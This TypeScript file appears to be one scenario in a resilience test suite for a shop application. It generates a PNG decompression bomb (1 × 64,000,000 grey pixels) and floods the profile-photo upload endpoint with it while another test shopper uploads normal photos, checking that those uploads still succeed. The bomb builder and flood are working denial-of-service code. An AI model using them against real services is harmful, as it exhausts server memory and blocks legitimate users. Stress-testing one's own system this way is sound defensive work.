import { setTimeout as wait } from 'node:timers/promises'
import { crc32, deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { headersOf, makeShoppers, type Shopper } from '../shoppers.ts'
import { type Attack, refusalsIn, scaled } from './attack.ts'
import { flood, sumOf } from './flood.ts'
import { encodeForm } from './form.ts'
import type { EncodedForm, HttpClient, Reply } from './http-client.ts'

const amount = 50
const maxPhotos = 10
/** Pause between photos: immediate refusals would end before the attack does. */
const pauseMs = 2_000
const maxSeconds = 45
const bombPixels = 64_000_000

/** Sends pictures of one column, small as files and large in memory, while another shopper uploads photos. */
export const sendBombs: Attack = {
  name: 'pictures of 1 × 64,000,000 pixels',
  promised: 'the uploads of others succeed',
  prepare: async ({ shop, share, addressAt }) => {
    const [attacker, other] = (await makeShoppers(shop.pool, 2)) as [Shopper, Shopper]
    const [bomb, photo] = [await photoForm('image/png', makeBomb()), await photoForm('image/jpeg', await makePhoto())]
    const upload = (client: HttpClient, shopper: Shopper, form: EncodedForm) => {
      const { Authorization = '' } = headersOf(shopper)
      const from = addressAt(shopper === attacker ? 0 : 1)
      return client.send({ path: '/api/update-profile', from, headers: { Authorization }, form })
    }
    const photos = Math.max(3, scaled(maxPhotos, share))
    return async () => {
      let isUploading = true
      const uploading = uploadInTurn(photos, () => upload(shop.client, other, photo)).finally(() => {
        isUploading = false
      })
      const statuses = await flood({
        address: shop.address,
        amount: scaled(amount, share),
        concurrency: 10,
        perSecond: 5,
        maxSeconds,
        isOver: () => !isUploading,
        send: (_, client) => upload(client, attacker, bomb),
      })
      const replies = await uploading
      const uploaded = replies.filter(({ status }) => status === 200).length
      const slowest = Math.round(Math.max(...replies.map(({ ms }) => ms)))
      const figure = `${uploaded} of ${photos} photos uploaded, the slowest answer after ${slowest} ms`
      return {
        sent: sumOf(statuses),
        passed: statuses.get(200) ?? 0,
        refused: refusalsIn(statuses),
        claims: [{ isMet: uploaded === photos, figure, aim: `${photos}` }],
      }
    }
  },
}

async function uploadInTurn(photos: number, upload: () => Promise<Reply>): Promise<Reply[]> {
  const until = performance.now() + maxSeconds * 1_000
  const replies: Reply[] = []
  while (replies.length < photos && performance.now() < until) {
    replies.push(await upload())
    await wait(pauseMs)
  }
  return replies
}

const photoForm = (type: string, bytes: Buffer) =>
  encodeForm({}, [{ field: 'profile_photo', name: 'photo', type, bytes }])

/** A grey PNG: each row is a filter type and one pixel. */
function makeBomb(): Buffer {
  const header = Buffer.alloc(13)
  header.writeUInt32BE(1, 0)
  header.writeUInt32BE(bombPixels, 4)
  header.writeUInt8(8, 8)
  const rows = deflateSync(Buffer.alloc(2 * bombPixels))
  const signature = Buffer.from('\x89PNG\r\n\x1a\n', 'latin1')
  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))])
}

function chunk(type: string, data: Buffer): Buffer {
  const named = Buffer.concat([Buffer.from(type, 'latin1'), data])
  const [length, check] = [Buffer.alloc(4), Buffer.alloc(4)]
  length.writeUInt32BE(data.length)
  check.writeUInt32BE(crc32(named))
  return Buffer.concat([length, named, check])
}

/** A phone's photo of noise, which does not compress. */
const makePhoto = (): Promise<Buffer> =>
  sharp({
    create: {
      width: 1600,
      height: 1200,
      channels: 3,
      background: 'grey',
      noise: { type: 'gaussian', mean: 128, sigma: 30 },
    },
  })
    .jpeg({ quality: 85 })
    .toBuffer()
